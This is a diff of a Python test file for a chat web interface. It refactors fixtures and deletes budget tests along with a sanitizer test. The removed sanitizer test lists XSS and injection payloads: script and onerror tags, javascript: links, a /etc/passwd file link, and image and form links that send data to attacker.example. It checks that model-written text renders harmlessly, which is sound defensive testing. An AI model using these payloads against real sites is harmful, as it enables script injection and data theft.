@@ -2,16 +2,13 @@
 
 from __future__ import annotations
 
-import json
-from collections.abc import Iterator
 from dataclasses import replace
 from html import unescape
 from typing import Any
 
 import pytest
 
-from chatlab.conversation import Budget, Conversation
-from chatlab.engines.base import Sampling
+from chatlab.conversation import Conversation
 from chatlab.engines.fake import FakeEngine
 from chatlab.errors import AdapterMissing, EmptyAnswer, InputError, NotFound
 from chatlab.lab import Lab
@@ -20,71 +17,16 @@ from chatlab.records import AdapterCard, Provenance
 from chatlab.settings import Settings
 from chatlab.training.process.client import TrainerStatus
 from chatlab.ui import notices
-from chatlab.ui.chat.generation_settings import fitting
-from chatlab.ui.chat.handlers import DEFAULT, ChatHandlers
+from chatlab.ui.chat.handlers import ChatHandlers
 from chatlab.ui.chat.replies import Replies
 from chatlab.ui.chat.rows import earlier, rows
-from chatlab.ui.chat.session import Session, View
+from chatlab.ui.chat.session import Session
 from chatlab.ui.chat.tab import ChatTab
 from chatlab.ui.chat.transcript import transcript
 from chatlab.ui.header import Header, live_chip
-from chatlab.ui.markdown import prose
 from chatlab.ui.page_event import PageEvent
+from tests.support.chat import FOX, Page, slow
 from tests.support.page import built
-
-FOX = "The quick brown fox jumps over the lazy dog"
-
-
-class Page:
-    """An open page: presses, and the view that stands after them."""
-
-    def __init__(self, handlers: ChatHandlers, view: View) -> None:
-        self.handlers = handlers
-        self.view = view
-
-    @property
-    def session(self) -> Session:
-        return self.view.session
-
-    @property
-    def conversation(self) -> Conversation:
-        assert self.session.conversation is not None
-        return self.handlers.lab.chat.get(self.session.conversation)
-
-    def say(self, text: str, settings: ReplyOptions = DEFAULT) -> None:
-        for view in self.handlers.say(text, self.session, "", settings):
-            self.view = view if isinstance(view.session, Session) else self.view
-
-    def press(self, act: str, settings: ReplyOptions = DEFAULT, **given: Any) -> None:
-        payload = json.dumps({"act": act} | {k: str(v) for k, v in given.items()})
-        self.view = self.handlers.act(payload, self.session, "", settings)
-        self.finish()
-
-    def finish(self) -> None:
-        for view in self.handlers.watch(self.session):
-            if isinstance(view.session, Session):
-                self.view = view
-
-
-@pytest.fixture
-def lab(settings: Settings) -> Iterator[Lab]:
-    lab = Lab(settings, open_engine=lambda base: FakeEngine(script=lambda prompt, variant, sampling: FOX))
-    yield lab
-    lab.close()
-
-
-@pytest.fixture
-def handlers(lab: Lab) -> ChatHandlers:
-    return ChatHandlers(lab, Replies())
-
-
-@pytest.fixture
-def page(handlers: ChatHandlers) -> Page:
-    return Page(handlers, handlers.load())
-
-
-def slow(settings: Settings, pause: float = 0.05) -> Lab:
-    return Lab(settings, open_engine=lambda base: FakeEngine(script=lambda *_: FOX, pause=pause))
 
 
 def test_an_empty_page_offers_something_to_say_and_the_next_step(page: Page) -> None:
@@ -261,78 +203,6 @@ def test_conversations_are_renamed_found_deleted_and_brought_back(page: Page) ->
     assert page.session.conversation == first and "greeting" in page.view.listing
 
 
-def budgeted(answer: int, thinking: int = 0) -> ReplyOptions:
-    """The settings as the page sends them, with these budgets."""
-    return ReplyOptions(sampling=Sampling(max_tokens=answer, thinking=thinking))
-
-
-def test_each_conversation_keeps_its_own_budget_and_a_new_one_begins_with_the_last(page: Page) -> None:
-    assert (page.view.budget, page.view.thinking) == (256, 0)
-    page.say("A long one", budgeted(512, 96))
-    first = page.session.conversation
-    page.press("new")
-    assert (page.view.budget, page.view.thinking) == (512, 96)
-    page.handlers.spend(32, 0, page.session)
-    page.press("new")
-    assert (page.view.budget, page.view.thinking) == (32, 0)
-    page.say("A short one", budgeted(32))
-    page.press("open", conversation=first)
-    assert (page.view.budget, page.view.thinking) == (512, 96)
-    page.handlers.spend(64, 96, page.session)
-    again = page.handlers.load(str(first))
-    assert (again.budget, again.thinking) == (64, 96)
-    assert page.handlers.lab.chat.get(page.session.conversation).budget == Budget(answer=64, thinking=96)
-
-
-def test_a_budget_outlives_the_app_and_a_conversation_kept_without_one_takes_the_last(settings: Settings) -> None:
-    for expected in (256, 48):
-        lab = Lab(settings, open_engine=lambda base: FakeEngine(script=lambda *_: FOX))
-        handlers = ChatHandlers(lab, Replies())
-        old = lab.chat.new()
-        assert lab.chat.get(old).budget is None
-        assert handlers.load().budget == handlers.load(str(old)).budget == expected
-        handlers.spend(48, 0, handlers.load(str(old)).session)
-        lab.close()
-    lab = Lab(settings)
-    assert lab.chat.get(1).budget == Budget(answer=48)
-    lab.close()
-
-
-def test_what_the_page_shows_is_what_an_answer_may_spend_and_is_kept(page: Page) -> None:
-    page.say("Hello", budgeted(3))
-    assert page.conversation.turns[-1].provenance.tokens == 3 and page.conversation.turns[-1].stopped == "length"
-    page.press("retry", budgeted(4), turn=1)
-    assert page.conversation.budget == Budget(answer=4) and page.conversation.turns[-1].provenance.tokens == 4
-    page.press("ask", budgeted(5), turn=0, text="Hello again")
-    assert page.conversation.budget == Budget(answer=5) and page.conversation.turns[-1].provenance.tokens == 5
-
-
-def test_an_incognito_budget_is_forgotten_with_its_conversation(page: Page) -> None:
-    page.press("incognito")
-    page.say("A secret", budgeted(17))
-    assert page.conversation.budget == Budget(answer=17)
-    page.press("new")
-    assert page.view.budget == 256
-
-
-def test_the_last_budget_is_each_persons_own(handlers: ChatHandlers) -> None:
-    for person, answer in (("anna", 64), ("bert", 128)):
-        handlers.spend(answer, 0, handlers.load(person=person).session)
-    assert [handlers.load(person=person).budget for person in ("anna", "bert", "cleo")] == [64, 128, 256]
-
-
-def test_a_dial_that_was_emptied_sets_no_budget(page: Page) -> None:
-    page.handlers.spend(None, 0, page.session)
-    assert page.handlers.load().budget == 256
-
-
-def test_what_a_browser_kept_with_the_budgets_among_it_is_still_good() -> None:
-    good = {"strength": 0.5, "temperature": 0.0, "top_p": 0.8, "repetition_penalty": 1.2, "seed": 7, "knowledge": True}
-    assert fitting([0.5, 0.0, 0.8, 1.2, 512, 7, 96, True]) == fitting([*good.values()]) == good
-    assert fitting([0.5, 9, "x", 1.2, None, 1]) == {"strength": 0.5, "repetition_penalty": 1.2}
-    assert fitting(None) == fitting([1.0]) == {}
-
-
 def test_deleting_a_conversation_ends_the_answer_under_way(settings: Settings) -> None:
     lab = slow(settings)
     handlers = ChatHandlers(lab, Replies())
@@ -441,63 +311,6 @@ def test_the_header_shows_who_is_live_and_what_it_forgot(page: Page) -> None:
 def test_a_run_under_way_shows_how_far_it_is() -> None:
     notice = notices.training(TrainerStatus(state="training", eta=7.0))
     assert "7 s left" in notice.text and "keep chatting" in notice.text
-
-
-@pytest.mark.parametrize(
-    "hostile",
-    [
-        "<script>window.hacked=1</script>",
-        "<img src=x onerror=alert(1)>",
-        "![](http://attacker.example/?q=secret)",
-        "![a](data:image/svg+xml;base64,AAAA)",
-        "[x](javascript:alert(1))",
-        "[x](JaVaScRiPt&colon;alert(1))",
-        "[x](/gradio_api/file=/etc/passwd)",
-        "<form action=http://attacker.example><input></form>",
-        '"><svg onload=alert(1)>',
-        "```\n</code></pre><iframe src=http://attacker.example>\n```",
-        '[x](http://ok.example "\\" onmouseover=alert(1) x=\\"")',
-        '<http://attacker.example/" onclick=alert(1)>',
-        "a\n\n<div data-act=delete data-conversation=1>\n\nb",
-        "\x00\x1b[31m\u202e",
-    ],
-)
-def test_what_a_model_writes_can_only_be_read(hostile: str) -> None:
-    tags = _tags(prose(hostile))
-    assert not {name for name, _ in tags} & {
-        "script",
-        "img",
-        "svg",
-        "iframe",
-        "form",
-        "input",
-        "object",
-        "style",
-        "div",
-    }
-    assert all(key in {"href", "target", "rel", "title", "class", "start"} for _, keys in tags for key in keys)
-    assert "\n" not in prose(hostile)
-    said = Conversation().grown(role="user", content=hostile).grown(role="assistant", content=hostile)
-    allowed = {"div", "span", "button", "svg", "path", "p", "code", "pre", "a", "br", "em"}
-    assert {name for name, _ in _tags(transcript(said, 30))} <= allowed
-    assert transcript(said, 30).count('data-act="') == transcript(_harmless(), 30).count('data-act="')
-
-
-def _harmless() -> Conversation:
-    return Conversation().grown(role="user", content="a").grown(role="assistant", content="b")
-
-
-def _tags(html: str) -> list[tuple[str, list[str]]]:
-    from html.parser import HTMLParser
-
-    found: list[tuple[str, list[str]]] = []
-
-    class Reader(HTMLParser):
-        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
-            found.append((tag, [name for name, _ in attrs]))
-
-    Reader().feed(html)
-    return found
 
 
 def test_act_reads_what_the_script_sends() -> None:
